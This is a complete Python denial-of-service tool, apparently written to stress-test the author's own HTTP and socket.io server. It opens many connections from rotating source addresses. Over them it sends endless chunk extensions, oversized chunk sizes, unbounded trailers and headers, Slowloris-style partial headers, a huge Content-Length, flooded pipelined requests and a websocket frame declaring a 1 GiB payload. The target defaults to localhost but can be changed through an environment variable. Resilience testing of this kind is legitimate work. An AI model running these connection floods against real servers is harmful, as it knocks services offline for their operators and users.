"""A stranger with many addresses: opens connections, and asks for all that one of them will take.

attacker.py PORT KIND CONNECTIONS SECONDS ADDRESS... prints how many connections it had and bytes it sent.
"""

import errno
import itertools
import os
import selectors
import socket
import sys
import time

CHUNKED = b"POST /api/auth/login HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n"
POLLING = b"GET /socket.io/?EIO=4&transport=polling HTTP/1.1\r\nHost: a\r\n\r\n"
SOCKET = (
    b"GET /socket.io/?EIO=4&transport=websocket HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\n"
    b"Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
)
# What each connection says first, then over and over; nothing more: it waits. Reads nothing: "deaf".
KINDS = {
    "chunk-extension": (CHUNKED + b"1;", b"e" * 16384),
    "chunk-size": (CHUNKED, b"0" * 16384),
    "trailer": (CHUNKED + b"0\r\nX: ", b"t" * 16384),
    "trailers": (CHUNKED + b"0\r\n", b"X: y\r\n" * 2000),
    "head": (b"GET / HTTP/1.1\r\nHost: a\r\n", b"X: y\r\n" * 2000),
    "first-line": (b"GET /", b"y" * 16384),
    "body": (CHUNKED, b"FFFFFF\r\n" + b"b" * 16384),
    "length": (b"POST /api/auth/login HTTP/1.1\r\nHost: a\r\nContent-Length: 99999999\r\n\r\n", b"b" * 16384),
    "silent": (b"", b""),
    "half-a-head": (b"GET / HTTP/1.1\r\nHost: a\r\nX: " + b"x" * 7000, b""),
    "requests": (b"", b"GET /api/health HTTP/1.1\r\nHost: a\r\n\r\n" * 50),
    "pages": (b"GET / HTTP/1.1\r\nHost: a\r\n\r\n", b"GET /assets/large.js HTTP/1.1\r\nHost: a\r\n\r\n"),
    "handshakes": (b"", POLLING * 20),
    "frames": (SOCKET, b"\x82\xff" + (1 << 30).to_bytes(8, "big") + b"m" * 16384),
}
DEAF = {"pages", "requests"}


class Stranger:
    def __init__(self, selector, kind, port, addresses):
        self.selector, self.kind, self.port, self.addresses = selector, kind, port, addresses
        self.sent = self.opened = 0
        self.connection = None

    def open(self):
        self.connection = socket.socket()
        self.connection.setblocking(False)
        if self.kind in DEAF:
            self.connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        try:
            self.connection.bind((next(self.addresses), 0))
            self.connection.connect(("127.0.0.1" if not HOST else HOST, self.port))
        except BlockingIOError:
            pass
        except OSError as error:
            if error.errno not in (errno.EADDRNOTAVAIL, errno.EADDRINUSE, errno.ECONNREFUSED):
                raise
            self.connection.close()
            self.connection = None
            return
        self.opened += 1
        first, self.again = KINDS[self.kind]
        self.rest = first or self.again
        events = selectors.EVENT_READ if self.kind not in DEAF else 0
        self.selector.register(self.connection, events | selectors.EVENT_WRITE, self)

    def close(self):
        self.selector.unregister(self.connection)
        self.connection.close()
        self.connection = None

    def act(self, events):
        try:
            if events & selectors.EVENT_READ and not self.connection.recv(65536):
                return self.close()
            if events & selectors.EVENT_WRITE:
                if not self.rest:
                    return self.selector.modify(self.connection, selectors.EVENT_READ, self)
                sent = self.connection.send(self.rest)
                self.sent += sent
                self.rest = self.rest[sent:] or self.again
        except BlockingIOError:
            pass
        except OSError:
            self.close()


HOST = os.environ.get("ATTACKED", "")


def main():
    port, kind, count, seconds = int(sys.argv[1]), sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    addresses = itertools.cycle(sys.argv[5:] or ["127.0.0.1"])
    selector = selectors.DefaultSelector()
    strangers = [Stranger(selector, kind, port, addresses) for _ in range(count)]
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        opened = 0
        for stranger in strangers:
            if stranger.connection is None and opened < 50:  # as many as a listener takes at once
                stranger.open()
                opened += 1
        for key, events in selector.select(0.01):
            key.data.act(events)
        time.sleep(0.002)  # it shares the processor with whom it attacks
    print(sum(each.opened for each in strangers), sum(each.sent for each in strangers))


if __name__ == "__main__":
    main()
